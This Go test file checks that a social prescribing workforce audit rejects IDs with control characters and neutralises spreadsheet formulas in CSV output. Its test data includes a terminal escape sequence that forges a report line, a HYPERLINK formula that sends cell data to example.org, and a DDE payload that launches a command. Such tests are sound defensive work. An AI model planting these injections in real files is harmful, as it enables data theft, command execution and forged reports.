package workforce_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"regexp"
	"strings"
	"testing"

	sp "github.com/socialprescribing/go-socialprescribing"
	"github.com/socialprescribing/go-socialprescribing/workforce"

	"pgregory.net/rapid"
)

// TestIDsRejectControlCharacters: an ID with an escape character and a newline could move a
// terminal's cursor and forge a line of the text report; a tab, carriage return, C1 control or line
// separator likewise. Validate rejects each with rule "nocontrol", and the audit leaves such a claim
// out without repeating its IDs anywhere.
func TestIDsRejectControlCharacters(t *testing.T) {
	t.Parallel()
	bad := []struct{ name, id string }{
		{"escape and newline", "E1\x1b[2K\n- error workforce.forged pcn U1: all clear"},
		{"tab", "E1\tX"},
		{"carriage return", "E1\rX"},
		{"C1 next line", "E1\u0085X"},
		{"line separator", "E1\u2028X"},
		{"paragraph separator", "E1\u2029X"},
		{"DEL", "E1\x7fX"},
		{"invalid UTF-8", "E1\xffX"},
	}
	for _, b := range bad {
		t.Run(b.name, func(t *testing.T) {
			t.Parallel()
			c := workforce.Claim{PCN: "U1", Staff: b.id, Month: day("2023-07-01"), Salary: money("1.00"),
				EmployerNationalInsurance: money("0.00"), EmployerPension: money("0.00")}
			var ve *sp.ValidationError
			if err := c.Validate(); !errors.As(err, &ve) || !ve.Has("/staff", "nocontrol") {
				t.Fatalf("Claim.Validate: got %v, want rule nocontrol at /staff", err)
			}
			st := workforce.StaffMember{ID: b.id, PCN: "U1", Role: sp.RoleLinkWorker, Employment: workforce.EmploymentDirect,
				Start: day("2023-04-01"), WTE: []workforce.WTEPeriod{{From: day("2023-04-01"), WTE: workforce.MustParseWTE("1")}}}
			if err := st.Validate(); !errors.As(err, &ve) || !ve.Has("/id", "nocontrol") {
				t.Fatalf("StaffMember.Validate: got %v, want rule nocontrol at /id", err)
			}
			if err := (workforce.PCN{ID: b.id, ListSize: 1}).Validate(); !errors.As(err, &ve) || !ve.Has("/id", "nocontrol") {
				t.Fatalf("PCN.Validate: got %v, want rule nocontrol at /id", err)
			}
			in := workforce.Input{PCNs: []workforce.PCN{{ID: "U1", ListSize: 40000}}, Staff: []workforce.StaffMember{st}, Claims: []workforce.Claim{c}}
			rep := workforce.Audit(in, workforce.DefaultRules())
			if len(rep.Lines) != 0 {
				t.Fatalf("a claim with a bad ID was audited")
			}
			var text, js, lines, findings bytes.Buffer
			if err := rep.WriteText(&text); err != nil {
				t.Fatal(err)
			}
			if err := rep.WriteJSON(&js); err != nil {
				t.Fatal(err)
			}
			_ = rep.WriteCSV(&lines)
			_ = rep.WriteFindingsCSV(&findings)
			for name, out := range map[string]string{"text": text.String(), "json": js.String(), "csv": lines.String(), "findings csv": findings.String()} {
				if strings.Contains(out, "E1") {
					t.Errorf("the %s report repeats the bad ID", name)
				}
				if strings.ContainsAny(out, "\x1b\r\t\u0085\u2028\u2029\x7f") {
					t.Errorf("the %s report holds a control character", name)
				}
				if strings.Contains(out, "workforce.forged") {
					t.Errorf("the %s report holds a forged line", name)
				}
			}
		})
	}
}

// TestCSVNeutralisesFormulas opens the audit's CSV as a spreadsheet would: every cell holding an ID
// that starts with =, +, - or @ must start with a single quote, and numbers must stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	ids := []string{`=HYPERLINK("http://example.org/?"&A1,"click")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3", "=1"}
	var in workforce.Input
	for i, id := range ids {
		pcnID := "+P" + string(rune('a'+i))
		in.PCNs = append(in.PCNs, workforce.PCN{ID: pcnID, ListSize: 40000})
		in.Staff = append(in.Staff, workforce.StaffMember{ID: id, PCN: pcnID, Role: sp.RoleLinkWorker, Employment: workforce.EmploymentDirect,
			Start: day("2023-04-01"), WTE: []workforce.WTEPeriod{{From: day("2023-04-01"), WTE: workforce.MustParseWTE("1")}}})
		in.Claims = append(in.Claims, workforce.Claim{PCN: pcnID, Staff: id, Month: day("2023-07-01"), Salary: money("5000.00"),
			EmployerNationalInsurance: money("0.00"), EmployerPension: money("0.00")})
	}
	rep := workforce.Audit(in, workforce.DefaultRules())
	if len(rep.Lines) != len(ids) {
		t.Fatalf("lines: got %d, want %d (%v)", len(rep.Lines), len(ids), rep.Findings)
	}
	writers := map[string]func(*bytes.Buffer) error{
		"lines":     func(b *bytes.Buffer) error { return rep.WriteCSV(b) },
		"findings":  func(b *bytes.Buffer) error { return rep.WriteFindingsCSV(b) },
		"pcn-years": func(b *bytes.Buffer) error { return rep.WritePCNYearsCSV(b) },
		"rules":     func(b *bytes.Buffer) error { return rep.WriteRulesCSV(b) },
		"totals":    func(b *bytes.Buffer) error { return rep.WriteTotalsCSV(b) },
	}
	for name, write := range writers {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if cell == "" {
					continue
				}
				switch cell[0] {
				case '=', '+', '@', '\t', '\r':
					t.Errorf("%s: cell %q could run as a formula", name, cell)
				case '-':
					if strings.Trim(cell, "-0123456789.") != "" {
						t.Errorf("%s: cell %q could run as a formula", name, cell)
					}
				}
			}
		}
	}
	// Negative amounts stay plain numbers.
	if got := workforce.CSVCell("-226.70"); got != "-226.70" {
		t.Errorf("CSVCell(-226.70) = %q, want the number as it is", got)
	}
	for _, s := range []string{"=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1", "-", "-.5", "--1"} {
		if got := workforce.CSVCell(s); !strings.HasPrefix(got, "'") {
			t.Errorf("CSVCell(%q) = %q, want it prefixed with a quote", s, got)
		}
	}
}

// TestCSVCellProperty: a cell is changed only by a leading quote, only when it starts with a
// character a spreadsheet reads as a formula and is not a plain number, and then always.
func TestCSVCellProperty(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		s := rapid.OneOf(rapid.String(),
			rapid.Custom(func(t *rapid.T) string {
				return rapid.SampledFrom([]string{"=", "+", "-", "@", "\t", "\r", "'", "1", "-1", ""}).Draw(t, "lead") + rapid.String().Draw(t, "rest")
			})).Draw(t, "cell")
		got := workforce.CSVCell(s)
		dangerous := s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0]))
		plain := regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`).MatchString(s)
		switch {
		case dangerous && !plain:
			if got != "'"+s {
				t.Fatalf("CSVCell(%q) = %q, want it quoted", s, got)
			}
		default:
			if got != s {
				t.Fatalf("CSVCell(%q) = %q, want it unchanged", s, got)
			}
		}
	})
}
